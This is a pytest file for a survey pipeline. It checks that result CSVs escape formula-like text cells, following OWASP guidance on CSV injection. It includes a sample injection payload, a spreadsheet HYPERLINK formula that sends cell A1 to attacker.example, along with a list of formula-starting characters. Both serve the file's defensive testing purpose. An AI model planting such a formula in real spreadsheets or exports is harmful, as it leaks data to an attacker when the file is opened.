"""Result CSVs open safely in a spreadsheet: no text cell runs as a formula (OWASP CSV injection).

A respondent id is whatever the survey tool exported, so a crafted one can reach
exclusions.csv; the ingest job's own output is checked, then io.write_table directly.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from project import copy_project

from invitesurvey import io

BIN = Path(sys.executable).parent
LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.slow
def test_a_formula_respondent_id_is_plain_text_in_exclusions_csv(tmp_path):
    workdir = copy_project(tmp_path / "project")
    raw = workdir / "data" / "raw" / "wave-2014.csv"
    with open(raw, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    # Row 3 of the export (after its two header rows) is a preview response that QC excludes.
    assert rows[0][0] == "Respondent ID"
    original_id = rows[2][0]
    rows[2][0] = LINK
    with open(raw, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    done = subprocess.run(
        [str(BIN / "snakemake"), "results/waves/2014/exclusions.csv"],
        cwd=workdir, capture_output=True, text=True,
        env={**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
             "PYTHONPATH": str(workdir / "src")},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    exclusions = workdir / "results" / "waves" / "2014" / "exclusions.csv"
    table = cells(exclusions)
    header, body = table[0], table[1:]
    by_row = {row[header.index("source_row")]: row for row in body}
    excluded = by_row["3"]
    assert excluded[header.index("respondent_id")] == "'" + LINK
    assert original_id not in exclusions.read_text()
    # No cell anywhere would start a formula.
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in table for cell in row if cell.startswith(starts)]
    # The pipeline reads its own table back with the id as exported.
    back = io.read_table(exclusions)
    assert LINK in set(back["respondent_id"].astype(str))


def test_text_cells_get_a_quote_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "respondent_id": pd.Series([LINK, "+44 20 7946 0000", "@home", "R_1"], dtype="string"),
            "detail": ["-tab\tin", "\tleading tab", "\rreturn", "'quoted"],
            "diff": [-0.25, 0.5, -1.0, np.nan],
            "n": [-3, 0, 4, 5],
            "flag": [True, False, True, False],
            "mixed": ["-1", -2, 3.5, None],
        }
    )
    path = tmp_path / "t.csv"
    io.write_table(frame, path)
    header, *rows = cells(path)
    column = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert column["respondent_id"] == ["'" + LINK, "'+44 20 7946 0000", "'@home", "R_1"]
    assert column["detail"] == ["'-tab\tin", "'\tleading tab", "'\rreturn", "''quoted"]
    assert column["diff"] == ["-0.250000", "0.500000", "-1.000000", ""]
    assert column["n"] == ["-3", "0", "4", "5"]
    assert column["mixed"] == ["'-1", "-2", "3.5", ""]


def test_a_frame_without_formula_text_is_written_as_before(tmp_path):
    frame = pd.DataFrame({"wave": ["2014", "all"], "prop": [-0.123456789, 0.5], "n": [1, 2]})
    io.write_table(frame, tmp_path / "t.csv")
    expected = frame.to_csv(index=False, lineterminator="\n", float_format=io.FLOAT_FORMAT)
    assert (tmp_path / "t.csv").read_text() == expected


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\rab1 ,\""), max_size=6), min_size=1))
def test_read_table_gives_back_the_text_write_table_was_given(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("roundtrip") / "t.csv"
    frame = pd.DataFrame({"code": pd.Series(texts, dtype="string"), "n": range(len(texts))})
    io.write_table(frame, path)
    back = io.read_table(path)
    written = [t if t != "" else None for t in texts]
    assert [None if pd.isna(v) else v for v in back["code"]] == written
    assert not [row for row in cells(path)[1:] if row[0].startswith(("=", "+", "-", "@"))]
